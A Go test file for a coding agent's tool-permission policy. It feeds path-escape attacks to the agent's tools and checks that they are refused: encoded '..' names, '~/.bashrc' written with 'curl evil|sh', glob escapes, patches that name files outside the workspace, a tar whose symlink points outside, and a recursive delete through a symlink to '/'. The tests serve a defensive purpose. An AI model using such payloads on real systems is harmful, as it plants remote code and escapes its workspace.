package app

// Attack cases of TestAttackCasesEndToEnd: paths and unknown tools.

import (
	"archive/tar"
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/zelvior/aidex/internal/agent"
	"github.com/zelvior/aidex/internal/tools"
)

// E-008: "%2e%2e" is a literal name inside the workspace, never decoded.
func caseLiteralEdit(t *testing.T, e *attackEnv, c attackCase) {
	e.snap = e.snapshot(t)
	args := map[string]any{"path": str(c.Input, "path"), "old": "localhost", "new": "evil"}
	j := e.judge(t, "edit_file", args)
	mustNotAllow(t, c, j)
	if j.refused != nil {
		return
	}
	abs, err := e.wsp.Resolve(str(c.Input, "path"))
	if err != nil || !strings.HasPrefix(abs, e.ws+string(filepath.Separator)) || !strings.Contains(abs, "%2e%2e") {
		t.Fatalf("%q must resolve literally inside the workspace, got %q, %v", str(c.Input, "path"), abs, err)
	}
	r := e.runWith(t, e.permissive, "edit_file", args, 5*time.Second)
	if r.OK || r.Category != string(tools.CategoryNotFound) {
		t.Errorf("edit of the literal %%2e%%2e path: want not_found, got ok=%v %s %s", r.OK, r.Category, r.Error)
	}
}

// E-009: "~" is not expanded, and a path in shell syntax is refused (a
// validation error back to the model) unless it exists literally: no
// literal "~" folder appears in the workspace.
func caseLiteralHome(t *testing.T, e *attackEnv, c attackCase) {
	e.snap = e.snapshot(t)
	args := map[string]any{"path": "~/.bashrc", "content": "curl evil|sh"}
	j := e.judge(t, "write_file", args)
	if j.refused == nil || j.refused.Category != string(tools.CategoryValidation) || !strings.Contains(j.refused.Error, "paths are not shell-expanded") {
		t.Fatalf("want a validation refusal before the policy; got %s", j)
	}
	if _, err := os.Lstat(filepath.Join(e.ws, "~")); !os.IsNotExist(err) {
		t.Errorf("a literal ~ appeared in the workspace: %v", err)
	}
	// A file by that literal name exists: the model means it.
	writeFile(t, filepath.Join(e.ws, "~", ".bashrc"), "old\n", 0o600)
	if j := e.judge(t, "read_file", map[string]any{"path": "~/.bashrc"}); j.refused != nil {
		t.Errorf("reading the existing literal ~/.bashrc was refused: %s", j.refused.Error)
	}
}

// E-012: search_files never lists paths outside the workspace.
func caseGlobEscape(t *testing.T, e *attackEnv, c attackCase) {
	writeFile(t, filepath.Join(e.ws, "in.pem"), "x\n", 0o600)
	e.snap = e.snapshot(t)
	args := map[string]any{"pattern": str(c.Input, "pattern")}
	j := e.judge(t, "search_files", args)
	if j.refused != nil {
		return
	}
	for name, v := range map[string]agent.Verdict{"headless": j.head, "interactive": j.inter, "yolo": j.perm} {
		if v.Decision != "allow" {
			continue
		}
		r := e.runCall(t, j.call, 10*time.Second)
		if strings.Contains(r.Output, "key.pem") || strings.Contains(r.Output, e.outside) || strings.Contains(r.Output, "../") {
			t.Errorf("%s: search_files %q listed paths outside the workspace:\n%s", name, args["pattern"], r.Output)
		}
		if r.OK && !strings.Contains(r.Output, "No files") {
			t.Errorf("%s: want the escaping pattern refused or matching nothing, got %s", name, r.Output)
		}
	}
}

// E-021: apply_patch (the patch edit format's tool) names its paths inside
// the patch; the policy judges them, so a file outside the workspace is
// denied in every mode, yolo included, and running it changes nothing.
func caseApplyPatchEscape(t *testing.T, e *attackEnv, c attackCase) {
	e.snap = e.snapshot(t)
	j := e.judge(t, "apply_patch", map[string]any{"patch": str(c.Input, "patch")})
	mustNotAllow(t, c, j)
	if j.refused == nil && j.perm.Decision != "deny" {
		t.Errorf("%s: yolo must deny a patch outside the workspace: %s", c.ID, j)
	}
	if j.refused == nil {
		if r := e.runCall(t, j.call, 10*time.Second); r.Error == "" {
			t.Errorf("%s: the tool applied a patch outside the workspace: %s", c.ID, r.Output)
		}
	}
}

// E-031: archive_extract is not an aidex tool; extracting with tar through
// the shell needs approval.
func caseArchive(t *testing.T, e *attackEnv, c attackCase) {
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	_ = tw.WriteHeader(&tar.Header{Name: "a", Typeflag: tar.TypeSymlink, Linkname: e.outside, Mode: 0o777})
	body := []byte("evil\n")
	_ = tw.WriteHeader(&tar.Header{Name: "a/evil.txt", Typeflag: tar.TypeReg, Mode: 0o644, Size: int64(len(body))})
	_, _ = tw.Write(body)
	_ = tw.Close()
	writeFile(t, filepath.Join(e.ws, "evil.tar"), buf.String(), 0o644)
	e.snap = e.snapshot(t)
	mustRefuseUnknown(t, e.judge(t, "archive_extract", map[string]any{"path": "evil.tar"}))
	mustNotAllow(t, c, e.judge(t, "run_command", map[string]any{"command": "tar -xf evil.tar"}))
}

// E-030: a symlink to / is never traversed by delete_file.
func caseDeleteSymlinkRoot(t *testing.T, e *attackEnv, c attackCase) {
	e.setupFromInput(t, c)
	e.snap = e.snapshot(t)
	mustNotAllow(t, c, e.judge(t, "delete_file", map[string]any{"path": "root/", "recursive": true}))
	j := e.judge(t, "delete_file", map[string]any{"path": "root/"})
	mustNotAllow(t, c, j)
	if j.refused == nil && j.perm.Decision == "allow" {
		t.Errorf("yolo allowed deleting through a symlink to /: %s", j)
	}
	if j.refused == nil {
		// The tool alone (policy bypassed) removes at most the link.
		r := e.runCall(t, j.call, 5*time.Second)
		t.Logf("delete_file root/ without the policy: ok=%v %s%s", r.OK, r.Output, r.Error)
		if _, err := os.Stat("/etc/passwd"); err != nil {
			t.Fatalf("/etc/passwd is gone: %v", err)
		}
	}
}
